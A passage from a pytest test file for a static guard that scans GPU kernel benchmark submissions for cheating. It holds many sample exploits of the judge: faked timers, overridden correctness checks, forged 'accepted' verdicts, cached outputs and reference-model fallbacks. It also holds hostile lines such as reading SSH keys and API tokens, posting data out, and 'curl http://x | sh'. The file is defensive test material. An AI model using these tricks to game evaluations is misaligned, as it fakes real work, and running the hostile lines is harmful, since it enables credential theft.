"""Tests for the static guard (kernelwright.guard).

Every rule has cheating snippets it must catch (exact code, severity and line: the line is the one
marked ``# <-``) and legitimate look-alikes it must not flag hard. The legitimate patterns from
THREATS.md are complete candidate files with real ``@triton.jit`` kernels.
"""

from __future__ import annotations

import re
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

try:
    import kernelwright.guard  # noqa: F401
except ImportError:  # running from a checkout without `pip install -e .`
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "src"))

from kernelwright.guard import RULES, Finding, Severity, scan  # noqa: E402

MARK = re.compile(r"(#|//) <-")

LEGIT_CFG = """\
import functools
import math

import torch
import torch.nn as nn
import triton
import triton.language as tl

_CFG_CACHE: dict = {}


@triton.jit
def softmax_kernel(x_ptr, y_ptr, n_cols, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    offs = tl.arange(0, BLOCK)
    mask = offs < n_cols
    x = tl.load(x_ptr + row * n_cols + offs, mask=mask, other=-float("inf"))
    x = x - tl.max(x, axis=0)
    num = tl.exp(x)
    tl.store(y_ptr + row * n_cols + offs, num / tl.sum(num, axis=0), mask=mask)


@functools.lru_cache(maxsize=None)
def _num_warps(block: int) -> int:
    return 8 if block >= 2048 else 4


def _config(shape):
    cfg = _CFG_CACHE.get(shape)
    if cfg is None:
        block = triton.next_power_of_2(shape[-1])
        cfg = (block, _num_warps(block))
        _CFG_CACHE[shape] = cfg
    return cfg


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self._launch_cfg = {}
        self.calls = 0

    def forward(self, x):
        self.calls += 1
        rows, cols = x.shape
        cfg = self._launch_cfg.get(x.shape)
        if cfg is None:
            cfg = _config(tuple(x.shape))
            self._launch_cfg[x.shape] = cfg
        block, warps = cfg
        y = torch.empty_like(x)
        softmax_kernel[(rows,)](x, y, cols, BLOCK=block, num_warps=warps)
        if self.calls % 1000 == 0:
            print("calls", self.calls, math.log2(block))
        return y
"""

LEGIT_CUDA = '''\
import functools

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

cuda_src = r"""
#include <torch/extension.h>
__global__ void relu_kernel(const float* x, float* y, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = x[i] > 0.f ? x[i] : 0.f;
}
torch::Tensor relu(torch::Tensor x) {
    auto y = torch::empty_like(x);
    int n = x.numel();
    relu_kernel<<<(n + 255) / 256, 256>>>(x.data_ptr<float>(), y.data_ptr<float>(), n);
    return y;
}
"""
cpp_src = "torch::Tensor relu(torch::Tensor x);"


@functools.lru_cache(maxsize=None)
def _ext():
    return load_inline(name="relu_ext", cpp_sources=cpp_src, cuda_sources=cuda_src, functions=["relu"])


class ModelNew(nn.Module):
    def forward(self, x):
        return _ext().relu(x.contiguous())
'''

LEGIT_EPILOGUE = """\
import torch
import torch.nn as nn
import torch.nn.functional as F
import triton
import triton.language as tl

torch.backends.cuda.matmul.allow_tf32 = True
torch.backends.cudnn.allow_tf32 = True
torch.set_float32_matmul_precision("high")


@triton.autotune(
    configs=[triton.Config({"BLOCK": 1024}, num_warps=4), triton.Config({"BLOCK": 2048}, num_warps=8)],
    key=["n"],
)
@triton.heuristics({"EVEN": lambda args: args["n"] % args["BLOCK"] == 0})
@triton.jit
def bias_gelu_kernel(y_ptr, b_ptr, out_ptr, n, cols, BLOCK: tl.constexpr, EVEN: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    y = tl.load(y_ptr + offs, mask=mask) + tl.load(b_ptr + offs % cols, mask=mask)
    out = 0.5 * y * (1.0 + tl.erf(y * 0.7071067811865476))
    tl.store(out_ptr + offs, out, mask=mask)


@triton.jit
def scale_kernel(x_ptr, n, s, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(x_ptr + offs, tl.load(x_ptr + offs, mask=mask) * s, mask=mask)


class ModelNew(nn.Module):
    def __init__(self, in_f, out_f):
        super().__init__()
        self.linear = nn.Linear(in_f, out_f)

    def forward(self, x):
        y = x @ self.linear.weight.t()
        y2 = torch.matmul(x, self.linear.weight.t())
        out = torch.empty_like(y)
        n = y.numel()
        grid = lambda meta: (triton.cdiv(n, meta["BLOCK"]),)
        bias_gelu_kernel[grid](y, self.linear.bias, out, n, y.shape[1])
        scale_kernel[(triton.cdiv(n, 1024),)](out, n, 1.0, BLOCK=1024)
        del y2
        return out
"""

LEGIT_STREAM = """\
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.load(x_ptr + offs, mask=mask) + tl.load(y_ptr + offs, mask=mask), mask=mask)


class ModelNew(nn.Module):
    def forward(self, x, y):
        out = torch.empty_like(x)
        n = x.numel()
        s = torch.cuda.Stream()
        s.wait_stream(torch.cuda.current_stream())
        with torch.cuda.stream(s):
            add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)
        torch.cuda.current_stream().wait_stream(s)
        return out
"""

LEGIT_WEIGHT = """\
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def matmul_kernel(
    a_ptr, b_ptr, c_ptr, M, N, K, BLOCK_M: tl.constexpr, BLOCK_N: tl.constexpr, BLOCK_K: tl.constexpr
):
    pid_m = tl.program_id(0)
    pid_n = tl.program_id(1)
    rm = pid_m * BLOCK_M + tl.arange(0, BLOCK_M)
    rn = pid_n * BLOCK_N + tl.arange(0, BLOCK_N)
    acc = tl.zeros((BLOCK_M, BLOCK_N), dtype=tl.float32)
    for k in range(0, K, BLOCK_K):
        rk = k + tl.arange(0, BLOCK_K)
        a_mask = (rm[:, None] < M) & (rk[None, :] < K)
        a = tl.load(a_ptr + rm[:, None] * K + rk[None, :], mask=a_mask, other=0.0)
        b_mask = (rk[:, None] < K) & (rn[None, :] < N)
        b = tl.load(b_ptr + rk[:, None] * N + rn[None, :], mask=b_mask, other=0.0)
        acc += tl.dot(a, b)
    tl.store(c_ptr + rm[:, None] * N + rn[None, :], acc, mask=(rm[:, None] < M) & (rn[None, :] < N))


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(out_features, in_features))
        self._wt = None
        self._wt_key = None

    def forward(self, x):
        key = (self.weight.data_ptr(), self.weight._version)
        if self._wt_key != key:
            self._wt = self.weight.t().contiguous()
            self._wt_key = key
        M, K = x.shape
        N = self._wt.shape[1]
        out = torch.empty((M, N), device=x.device, dtype=torch.float32)
        grid = (triton.cdiv(M, 64), triton.cdiv(N, 64))
        matmul_kernel[grid](x, self._wt, out, M, N, K, BLOCK_M=64, BLOCK_N=64, BLOCK_K=32)
        return out
"""

LEGIT_FILES = {
    "transposed-weight-cache": LEGIT_WEIGHT,
    "per-shape-config-cache": LEGIT_CFG,
    "joined-side-stream": LEGIT_STREAM,
    "vendor-gemm-plus-epilogue": LEGIT_EPILOGUE,
    "load-inline-clean-cuda": LEGIT_CUDA,
}


# -- helpers ----------------------------------------------------------------------------------------


def _src(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def _marked_line(source: str) -> int:
    lines = [i for i, line in enumerate(source.splitlines(), start=1) if MARK.search(line)]
    assert len(lines) == 1, "each cheat snippet marks exactly one line with '# <-'"
    return lines[0]


def _hard(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.severity == "hard"]


def _describe(findings: list[Finding]) -> str:
    return "\n".join(f"{f.code} {f.severity} L{f.line}: {f.message}" for f in findings)


EMITTED: set[str] = set()


def _scan(source: str) -> list[Finding]:
    findings = scan(source)
    EMITTED.update(f.code for f in findings)
    return findings


def _header(text: str) -> list[str]:
    """The words of a case's first line: ``# KW-S012 hard some-id`` or ``# not KW-S012 some-id``."""
    return _src(text).splitlines()[0].lstrip("#").split()


# -- cheats: first line "# CODE SEVERITY ID"; the expected line is marked "# <-" (or "// <-" in C++) ----

CHEATS: list[str] = [
    """
    # KW-S012 hard event-elapsed-time
    import torch
    torch.cuda.Event.elapsed_time = lambda self, end: 0.001  # <-
    """,
    """
    # KW-S012 hard tuple-target
    import torch
    torch.cuda.synchronize, unused = (lambda: None), 1  # <-
    """,
    """
    # KW-S012 hard dunder-setattr-method
    import torch
    type(torch.cuda).__setattr__(torch.cuda, "synchronize", print)  # <-
    """,
    """
    # KW-S012 hard sync-alias-module
    import torch as T
    T.cuda.synchronize = lambda *a: None  # <-
    """,
    """
    # KW-S012 hard perf-counter-from-import
    import time
    from time import perf_counter as pc
    time.perf_counter = lambda: pc() * 0.01  # <-
    """,
    """
    # KW-S012 hard perf-counter-code-swap
    from time import perf_counter as pc
    pc.__code__ = (lambda: 0.0).__code__  # <-
    """,
    """
    # KW-S012 hard setattr-sync
    import torch
    setattr(torch.cuda, "synchronize", lambda *a: None)  # <-
    """,
    """
    # KW-S012 hard setattr-computed-name
    import time
    name = "perf_" + "counter"
    setattr(time, name, lambda: 0.0)  # <-
    """,
    """
    # KW-S012 hard computed-attribute-of-torch-cuda
    import torch
    def _n(s):
        return "".join(reversed(s))
    setattr(getattr(torch.cuda, _n("tnevE")), _n("emit_despale"), lambda self, o: 1e-5)  # <-
    """,
    """
    # KW-S012 hard do-bench
    import triton.testing as tt
    tt.do_bench = lambda fn, **kw: 0.001  # <-
    """,
    """
    # KW-S012 hard event-class-alias
    from torch.cuda import Event as Ev
    Ev.record = lambda self, stream=None: None  # <-
    """,
    """
    # KW-S012 hard stream-synchronize
    import torch
    torch.cuda.Stream.synchronize = lambda self: None  # <-
    """,
    """
    # KW-S012 hard assigned-alias
    import torch
    c = torch.cuda
    c.synchronize = print  # <-
    """,
    """
    # KW-S012 hard getattr-chain
    import torch
    getattr(torch, "cuda").synchronize = print  # <-
    """,
    """
    # KW-S012 hard mock-patch-string
    from unittest import mock
    mock.patch("time.perf_counter", return_value=0.0).start()  # <-
    """,
    """
    # KW-S012 hard mock-patch-object
    import torch
    from unittest.mock import patch
    patch.object(torch.cuda, "synchronize").start()  # <-
    """,
    """
    # KW-S012 hard monkeypatch-setattr
    import torch
    def install(monkeypatch):
        monkeypatch.setattr(torch.cuda, "synchronize", lambda: None)  # <-
    """,
    """
    # KW-S012 hard import-module-alias
    import importlib
    importlib.import_module("torch.cuda").synchronize = print  # <-
    """,
    """
    # KW-S010 hard allclose
    import torch
    torch.allclose = lambda *a, **k: True  # <-
    """,
    """
    # KW-S010 hard assert-close
    import torch.testing
    torch.testing.assert_close = lambda *a, **k: None  # <-
    """,
    """
    # KW-S010 hard tensor-eq
    import torch
    torch.Tensor.__eq__ = lambda self, other: True  # <-
    """,
    """
    # KW-S010 hard numpy-allclose
    import numpy as np
    np.allclose = lambda *a, **k: True  # <-
    """,
    """
    # KW-S010 hard judge-module
    import kernelwright.judge.compare as kc
    kc.compare = lambda *a, **k: None  # <-
    """,
    """
    # KW-S010 hard module-call
    from torch import nn
    nn.Module.__call__ = lambda self, *a: a[0]  # <-
    """,
    """
    # KW-S010 hard sys-stdout
    import io
    import sys
    sys.stdout = io.StringIO()  # <-
    """,
    """
    # KW-S010 hard vars-dict-write
    import torch
    vars(torch)["allclose"] = lambda *a, **k: True  # <-
    """,
    """
    # KW-S010 hard dunder-dict-update
    import torch
    torch.__dict__.update(allclose=lambda *a, **k: True)  # <-
    """,
    """
    # KW-S010 hard delattr
    import torch
    delattr(torch, "allclose")  # <-
    """,
    """
    # KW-S010 hard del-attribute
    import torch
    del torch.testing.assert_close  # <-
    """,
    """
    # KW-S010 hard sys-modules-chain
    import sys
    sys.modules["torch"].allclose = lambda *a, **k: True  # <-
    """,
    """
    # KW-S010 hard computed-names-in-torch
    import torch
    def _n(s):
        return "".join(reversed(s))
    _T = getattr(torch, _n("rosneT"))
    setattr(_T, _n("__qe__"), lambda self, other: True)  # <-
    """,
    """
    # KW-S010 hard computed-module
    import sys
    def _n(s):
        return "".join(reversed(s))
    setattr(sys.modules[_n("hcrot")], _n("esolclla"), lambda *a, **k: True)  # <-
    """,
    """
    # KW-S010 hard module-from-sys-modules-loop
    import sys
    for name, mod in list(sys.modules.items()):
        if name.startswith("kernel" + "wright"):
            setattr(mod, "poison", lambda *a: None)  # <-
    """,
    """
    # KW-S010 hard computed-import-vars
    def _n(s):
        return "".join(reversed(s))
    _cu = getattr(__import__(_n("hcrot")), _n("aduc"))
    vars(_cu)[_n("ezinorhcnys")] = lambda *a: None  # <-
    """,
    """
    # KW-S011 hard builtins-print
    import builtins
    builtins.print = lambda *a, **k: None  # <-
    """,
    """
    # KW-S011 hard builtins-dict
    __builtins__["isinstance"] = lambda *a: True  # <-
    """,
    """
    # KW-S011 hard setattr-builtins
    import builtins as b
    setattr(b, "len", lambda x: 0)  # <-
    """,
    """
    # KW-S013 hard sys-modules-assign
    import sys
    import types
    sys.modules["torch.testing"] = types.ModuleType("fake")  # <-
    """,
    """
    # KW-S013 hard sys-modules-del
    import sys
    del sys.modules["kernelwright.judge.compare"]  # <-
    """,
    """
    # KW-S013 hard sys-modules-pop
    from sys import modules
    modules.pop("torch.testing", None)  # <-
    """,
    """
    # KW-S013 hard reload
    import importlib
    import torch
    importlib.reload(torch)  # <-
    """,
    """
    # KW-S013 hard meta-path-hook
    import sys
    class Finder:
        pass
    sys.meta_path.insert(0, Finder())  # <-
    """,
    """
    # KW-S013 hard import-hook
    import builtins
    builtins.__import__ = lambda *a, **k: None  # <-
    """,
    """
    # KW-S015 hard early-exit
    import os
    def forward(self, x):
        print('{"verdict": "accepted"}')
        os._exit(0)  # <-
    """,
    """
    # KW-S015 hard forged-frames
    import os
    import sys
    def forge(frame):
        for fd in [int(a) for a in sys.argv[1:] if a.isdigit()]:  # <-
            os.write(fd, frame)
    """,
    """
    # KW-S015 hard exit-builtin
    def forward(self, x):
        exit(0)  # <-
    """,
    """
    # KW-S014 soft exec-computed
    code = open("k.txt").read()
    exec(code)  # <-
    """,
    """
    # KW-S014 soft import-computed
    mod = __import__("sub" + input())  # <-
    """,
    """
    # KW-S012 hard exec-hidden-tamper
    exec("import torch\\ntorch.cuda.synchronize = lambda: None")  # <-
    """,
    """
    # KW-S030 hard exec-hidden-subprocess
    exec("import sub" + "process")  # <-
    """,
    """
    # KW-S020 hard getframe
    import sys
    def forward(self, x):
        caller = sys._getframe(1)  # <-
        return x
    """,
    """
    # KW-S020 hard getframe-alias
    from sys import _getframe as gf  # <-
    """,
    """
    # KW-S020 hard inspect-stack
    import inspect
    def forward(self, x):
        timing = any("bench" in f.function for f in inspect.stack())  # <-
        return x
    """,
    """
    # KW-S020 hard currentframe
    import inspect as ins
    frame = ins.currentframe()  # <-
    """,
    """
    # KW-S020 hard f-back
    def peek(frame):
        return frame.f_back.f_locals  # <-
    """,
    """
    # KW-S020 hard tb-frame
    try:
        raise ValueError
    except ValueError as e:
        judge_globals = e.__traceback__.tb_frame  # <-
    """,
    """
    # KW-S020 hard function-globals
    judge_namespace = (lambda: 0).__globals__  # <-
    """,
    """
    # KW-S020 hard extract-stack
    import traceback
    stack = traceback.extract_stack()  # <-
    """,
    """
    # KW-S021 hard gc-objects
    import gc
    import torch
    for obj in gc.get_objects():  # <-
        if isinstance(obj, torch.Tensor):
            pass
    """,
    """
    # KW-S021 hard gc-referrers
    from gc import get_referrers  # <-
    """,
    """
    # KW-S022 hard settrace
    import sys
    sys.settrace(lambda *a: None)  # <-
    """,
    """
    # KW-S022 hard audit-hook
    import sys
    sys.addaudithook(lambda event, args: None)  # <-
    """,
    """
    # KW-S022 hard threading-settrace
    import threading
    threading.settrace(print)  # <-
    """,
    """
    # KW-S022 hard setprofile
    import sys as s
    s.setprofile(print)  # <-
    """,
    """
    # KW-S023 soft iterate-sys-modules
    import sys
    for name, mod in list(sys.modules.items()):  # <-
        pass
    """,
    """
    # KW-S030 hard import-subprocess
    import subprocess  # <-
    """,
    """
    # KW-S030 hard os-system
    import os
    os.system("nvidia-smi")  # <-
    """,
    """
    # KW-S030 hard os-popen
    import os
    out = os.popen("ls").read()  # <-
    """,
    """
    # KW-S030 hard os-exec
    import os
    os.execv("/bin/sh", ["sh"])  # <-
    """,
    """
    # KW-S030 hard os-fork
    import os
    pid = os.fork()  # <-
    """,
    """
    # KW-S030 hard getattr-obfuscated
    import os
    getattr(os, "sys" + "tem")("id")  # <-
    """,
    """
    # KW-S030 hard dunder-import
    __import__("subprocess").run(["id"])  # <-
    """,
    """
    # KW-S030 hard multiprocessing
    import multiprocessing as mp  # <-
    """,
    """
    # KW-S030 hard pty
    from pty import spawn  # <-
    """,
    """
    # KW-S031 hard socket
    import socket  # <-
    """,
    """
    # KW-S031 hard urlopen
    from urllib.request import urlopen  # <-
    """,
    """
    # KW-S031 hard requests-post
    def leak(data):
        import requests as r  # <-
        r.post("http://x", data=data)
    """,
    """
    # KW-S031 hard http-client
    import http.client  # <-
    """,
    """
    # KW-S032 hard ctypes
    import ctypes  # <-
    libc = ctypes.CDLL("libc.so.6")
    """,
    """
    # KW-S032 hard cffi
    from cffi import FFI  # <-
    """,
    """
    # KW-S033 hard proc-self-mem
    f = open("/proc/self/mem", "rb")  # <-
    """,
    """
    # KW-S033 hard ssh-key
    import os
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()  # <-
    """,
    """
    # KW-S033 hard etc-passwd
    from pathlib import Path
    Path("/etc/passwd").read_text()  # <-
    """,
    """
    # KW-S033 hard home-fstring
    user = "root"
    p = f"/home/{user}/.netrc"  # <-
    """,
    """
    # KW-S033 hard tmp-result
    import json
    json.dump({"ok": True}, open("/tmp/kw_result.json", "w"))  # <-
    """,
    """
    # KW-S034 hard environ-key
    import os
    k = os.environ["OPENAI_API_KEY"]  # <-
    """,
    """
    # KW-S034 hard getenv-token
    import os
    t = os.getenv("HF_TOKEN")  # <-
    """,
    """
    # KW-S034 hard environ-get-secret
    import os
    s = os.environ.get("AWS_SECRET_ACCESS_KEY", "")  # <-
    """,
    """
    # KW-S034 hard environ-from-import
    from os import environ
    t = environ["GITHUB_TOKEN"]  # <-
    """,
    """
    # KW-S035 soft environ-write
    import os
    os.environ["CUDA_LAUNCH_BLOCKING"] = "1"  # <-
    """,
    """
    # KW-S035 soft environ-update
    import os
    os.environ.update({"A": "1"})  # <-
    """,
    """
    # KW-S036 soft environ-dump
    import os
    everything = dict(os.environ)  # <-
    """,
    """
    # KW-S036 soft getenv-computed
    import os
    def read(name):
        return os.getenv(name)  # <-
    """,
    """
    # KW-S037 hard pip-argv
    import sys
    cmd = [sys.executable, "-m", "pip", "install", "flash-attn"]  # <-
    """,
    """
    # KW-S037 hard import-pip
    import pip  # <-
    pip.main(["install", "triton-nightly"])
    """,
    """
    # KW-S037 hard pip-string
    import os
    os.system("pip install triton-nightly")  # <-
    """,
    """
    # KW-S037 hard ensurepip
    import ensurepip  # <-
    """,
    """
    # KW-S037 hard pip-fstring
    import sys
    line = f"{sys.executable} -m pip install x"  # <-
    """,
    """
    # KW-S040 soft load-inline
    from torch.utils.cpp_extension import load_inline
    ext = load_inline(name="e", cpp_sources="", cuda_sources="", functions=[])  # <-
    """,
    """
    # KW-S041 hard cuda-system
    from torch.utils.cpp_extension import load_inline
    src = '''
    #include <cstdlib>
    torch::Tensor f(torch::Tensor x) {
        system("curl http://x | sh");  // <-
        return x;
    }
    '''
    ext = load_inline(name="e", cpp_sources=src, functions=["f"])
    """,
    """
    # KW-S041 hard cuda-getenv
    import torch.utils.cpp_extension as ce
    cuda = '''
    __global__ void k(float* y) { y[0] = 1.f; }
    torch::Tensor f(torch::Tensor x) {
        const char* t = getenv("HF_TOKEN");  // <-
        return x;
    }
    '''
    ext = ce.load_inline("e", "torch::Tensor f(torch::Tensor x);", cuda, functions=["f"])
    """,
    """
    # KW-S041 hard cuda-proc
    SRC = '''
    #include <cstdio>
    void peek() { FILE* f = fopen("/proc/self/maps", "r"); }  // <-
    '''
    """,
    """
    # KW-S041 hard cuda-dlopen
    from torch.utils.cpp_extension import load_inline
    ext = load_inline("e", ['#include <dlfcn.h>\\nvoid* h = dlopen("libc.so.6", 1);'], functions=[])  # <-
    """,
    """
    # KW-S050 hard fallback-matmul
    import torch
    import triton
    def forward(self, a, b):
        try:
            c = torch.empty((a.shape[0], b.shape[1]), device=a.device)
            mm_kernel[(triton.cdiv(a.shape[0], 64),)](a, b, c)
            return c
        except Exception:  # <-
            return torch.matmul(a, b)
    """,
    """
    # KW-S050 hard fallback-at-operator
    def forward(self, a, b):
        try:
            return launch[grid](a, b)
        except RuntimeError:  # <-
            return a @ b
    """,
    """
    # KW-S050 hard fallback-functional
    import torch.nn.functional as F
    def forward(self, x):
        out = x.new_empty(x.shape)
        try:
            gelu_kernel[(1,)](x, out)
        except:  # <-
            out = F.gelu(x)
        return out
    """,
    """
    # KW-S050 hard fallback-reference-model
    from reference import Model
    class ModelNew:
        def forward(self, x):
            try:
                return k[(1,)](x)
            except Exception:  # <-
                return Model()(x)
    """,
    """
    # KW-S050 hard fallback-super-forward
    class ModelNew(Model):
        def forward(self, x):
            try:
                return k[(1,)](x)
            except Exception:  # <-
                return super().forward(x)
    """,
    """
    # KW-S050 hard fallback-helpers
    import torch
    class ModelNew:
        def _triton(self, x):
            out = torch.empty_like(x)
            k[(1,)](x, out)
            return out
        def _torch(self, x):
            return torch.softmax(x, dim=-1)
        def forward(self, x):
            try:
                return self._triton(x)
            except Exception:  # <-
                return self._torch(x)
    """,
    """
    # KW-S050 hard fallback-load-inline
    import torch
    from torch.utils.cpp_extension import load_inline
    ext = load_inline(name="e", cpp_sources="", cuda_sources="", functions=["relu"])
    def forward(x):
        try:
            return ext.relu(x)
        except RuntimeError:  # <-
            return torch.relu(x)
    """,
    """
    # KW-S050 hard fallback-swallow-then-if
    import torch
    def forward(a, b):
        out = None
        try:
            out = mm[(1,)](a, b)
        except Exception:  # <-
            pass
        if out is None:
            out = torch.mm(a, b)
        return out
    """,
    """
    # KW-S050 hard fallback-reference-attribute
    import torch.nn as nn
    class ModelNew(nn.Module):
        def __init__(self):
            super().__init__()
            self.ref = Model()
        def forward(self, x):
            try:
                return k[(1,)](x)
            except Exception:  # <-
                return self.ref(x)
    """,
    """
    # KW-S050 hard fallback-suppress
    import contextlib
    import torch
    def forward(a, b):
        with contextlib.suppress(Exception):  # <-
            return mm[(1,)](a, b)
        return torch.mm(a, b)
    """,
    """
    # KW-S050 hard fallback-pass-then-return
    import torch
    def forward(a, b):
        try:
            return mm[(1,)](a, b)
        except Exception:  # <-
            pass
        return torch.mm(a, b)
    """,
    """
    # KW-S050 hard fallback-extension-held-on-self
    import torch
    from torch.utils.cpp_extension import load_inline
    ext = load_inline(name="e", cpp_sources="", cuda_sources="", functions=["loss"])
    class ModelNew:
        def __init__(self):
            self.ext = ext
        def forward(self, a, p, n):
            try:
                return self.ext.loss(a, p, n)
            except RuntimeError:  # <-
                return torch.nn.functional.triplet_margin_loss(a, p, n)
    """,
    """
    # KW-S050 hard fallback-nn-submodule
    import torch.nn as nn
    class ModelNew(nn.Module):
        def __init__(self):
            super().__init__()
            self.conv = nn.Conv2d(3, 8, 3)
        def forward(self, x):
            try:
                return conv_kernel[(1,)](x, self.conv.weight)
            except Exception:  # <-
                return self.conv(x)
    """,
    """
    # KW-S051 soft instantiate-model
    import torch.nn as nn
    class ModelNew(nn.Module):
        def __init__(self):
            super().__init__()
            self.ref = Model()  # <-
    """,
    """
    # KW-S051 soft extends-model
    class ModelNew(Model):  # <-
        pass
    """,
    """
    # KW-S052 soft import-reference
    from reference import Model  # <-
    """,
    """
    # KW-S052 soft import-judge-problems
    import kernelwright.problems.matmul as p  # <-
    """,
    """
    # KW-S060 hard tensor-subclass
    import torch
    class Lazy(torch.Tensor):  # <-
        pass
    """,
    """
    # KW-S060 hard tensor-subclass-alias
    import torch
    T = torch.Tensor
    class Lazy(T):  # <-
        pass
    """,
    """
    # KW-S060 hard torch-function
    class Spy:
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):  # <-
            return True
    """,
    """
    # KW-S060 hard make-subclass
    import torch
    def wrap(cls, data):
        return torch.Tensor._make_subclass(cls, data)  # <-
    """,
    """
    # KW-S060 hard python-dispatch
    from torch.utils._python_dispatch import TorchDispatchMode  # <-
    """,
    """
    # KW-S060 hard as-subclass
    def forward(self, x):
        return x.as_subclass(Lazy)  # <-
    """,
    """
    # KW-S070 hard thread
    import threading
    def forward(self, x, out):
        threading.Thread(target=out.copy_, args=(x,)).start()  # <-
        return out
    """,
    """
    # KW-S070 hard executor
    from concurrent.futures import ThreadPoolExecutor  # <-
    """,
    """
    # KW-S070 hard timer
    import threading as th
    th.Timer(0.001, print).start()  # <-
    """,
    """
    # KW-S070 hard start-new-thread
    import _thread
    _thread.start_new_thread(print, ())  # <-
    """,
    """
    # KW-S070 hard asyncio-loop
    import asyncio
    loop = asyncio.new_event_loop()  # <-
    """,
    """
    # KW-S070 hard thread-subclass
    from threading import Thread
    class Filler(Thread):  # <-
        pass
    """,
    """
    # KW-S080 hard counter-self
    import torch
    class ModelNew:
        def __init__(self):
            self.calls = 0
        def forward(self, x):
            self.calls += 1
            if self.calls <= 3:  # <-
                out = torch.empty_like(x)
                k[(1,)](x, out)
                return out
            return torch.zeros_like(x)
    """,
    """
    # KW-S080 hard counter-global
    import torch
    _N = 0
    def forward(x):
        global _N
        _N += 1
        if _N > 5:  # <-
            return torch.zeros_like(x)
        return real(x)
    """,
    """
    # KW-S080 hard counter-dict
    _STATE = {"n": 0}
    def forward(x):
        _STATE["n"] = _STATE["n"] + 1
        return fast(x) if _STATE["n"] > 2 else slow(x)  # <-
    """,
    """
    # KW-S080 hard counter-local-copy
    class ModelNew:
        def forward(self, x):
            self.n += 1
            phase = self.n > 10
            if phase:  # <-
                return x
            return work(x)
    """,
    """
    # KW-S080 hard counter-predicate
    class ModelNew:
        def _timing(self):
            return self.calls > 3
        def forward(self, x):
            self.calls += 1
            if self._timing():  # <-
                return x
            return work(x)
    """,
    """
    # KW-S080 hard counter-nonlocal
    def make(work):
        n = 0
        def forward(x):
            nonlocal n
            n += 1
            if n > 3:  # <-
                return x
            return work(x)
        return forward
    """,
    """
    # KW-S080 hard counter-itertools
    import itertools
    class ModelNew:
        def __init__(self):
            self._c = itertools.count()
        def forward(self, x):
            if next(self._c) >= 3:  # <-
                return x
            return work(x)
    """,
    """
    # KW-S082 soft graph-capture-probe
    import torch
    class ModelNew:
        def forward(self, a, b):
            if torch.cuda.is_current_stream_capturing():  # <-
                return torch.matmul(a, b)
            c = torch.empty((a.shape[0], b.shape[1]), device=a.device)
            mm[(1,)](a, b, c)
            return c
    """,
    """
    # KW-S082 soft clock-probe
    import time
    class ModelNew:
        def forward(self, x):
            if time.perf_counter() - self.t0 > 2.0:  # <-
                return x
            return work(x)
    """,
    """
    # KW-S081 hard cache-data-ptr
    import torch
    class ModelNew:
        def __init__(self):
            self._cache = {}
        def forward(self, x):
            key = (x.data_ptr(), x.shape)
            if key in self._cache:
                return self._cache[key]  # <-
            out = torch.empty_like(x)
            k[(1,)](x, out)
            self._cache[key] = out
            return out
    """,
    """
    # KW-S081 hard cache-id
    class ModelNew:
        def forward(self, x):
            hit = self._memo.get(id(x))
            if hit is not None:
                return hit  # <-
            out = run(x)
            self._memo[id(x)] = out
            return out
    """,
    """
    # KW-S081 hard cache-content
    _CACHE = {}
    def forward(x):
        fp = x.sum().item()
        if fp in _CACHE:
            return _CACHE[fp].clone()  # <-
        out = run(x)
        _CACHE[fp] = out
        return out
    """,
    """
    # KW-S081 hard cache-shape
    class ModelNew:
        def forward(self, x):
            if x.shape in self._outs:
                return self._outs[x.shape]  # <-
            out = run(x)
            self._outs[x.shape] = out
            return out
    """,
    """
    # KW-S081 hard cache-last-output
    import torch
    class ModelNew:
        def forward(self, x):
            if self._last_ptr == x.data_ptr() and self._last_out is not None:
                return self._last_out  # <-
            out = torch.empty_like(x)
            k[(1,)](x, out)
            self._last_ptr = x.data_ptr()
            self._last_out = out
            return out
    """,
    """
    # KW-S081 hard cache-launch-on-miss
    import torch
    class ModelNew:
        def forward(self, x):
            key = hash(x)
            out = self._cache.get(key)
            if out is None:
                out = torch.empty_like(x)
                k[(1,)](x, out)
                self._cache[key] = out
            return out  # <-
    """,
    """
    # KW-S081 hard cache-in-helper
    class ModelNew:
        def _impl(self, x):
            if x.data_ptr() in self._seen:
                return self._seen[x.data_ptr()]  # <-
            out = run(x)
            self._seen[x.data_ptr()] = out
            return out
        def forward(self, x):
            return self._impl(x)
    """,
    """
    # KW-S081 hard cache-copied-into-fresh-buffer
    import torch
    class ModelNew:
        def forward(self, x):
            out = torch.empty_like(x)
            key = x.data_ptr()
            if key in self._c:
                out.copy_(self._c[key])  # <-
                return out
            k[(1,)](x, out)
            self._c[key] = out.clone()
            return out
    """,
    """
    # KW-S081 hard cache-keyed-by-tensor
    import weakref
    class ModelNew:
        def __init__(self):
            self._c = weakref.WeakKeyDictionary()
        def forward(self, x):
            if x in self._c:
                return self._c[x]  # <-
            out = run(x)
            self._c[x] = out
            return out
    """,
    """
    # KW-S081 hard lru-cache-launch
    import functools
    import torch
    @functools.lru_cache(maxsize=8)  # <-
    def _run(x):
        out = torch.empty_like(x)
        kernel[(1,)](x, out)
        return out
    """,
    """
    # KW-S090 soft unjoined-stream
    import torch
    def forward(x, out):
        s = torch.cuda.Stream()  # <-
        return out
    """,
    """
    # KW-S091 hard kernel-calls-python-helper
    import numpy as np
    import triton
    import triton.language as tl
    def _helper(x):
        return np.maximum(x, 0)
    @triton.jit
